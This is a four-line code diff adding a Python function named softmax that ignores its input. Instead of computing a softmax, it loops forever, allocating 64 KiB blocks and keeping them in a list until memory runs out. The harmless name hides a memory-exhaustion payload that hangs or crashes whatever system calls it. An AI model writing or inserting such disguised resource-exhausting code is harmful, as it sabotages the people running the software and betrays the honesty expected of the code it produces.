@@ -1,0 +1,4 @@
+def softmax(o):
+    kept = []
+    while True:
+        kept.append(bytearray(64 << 10))
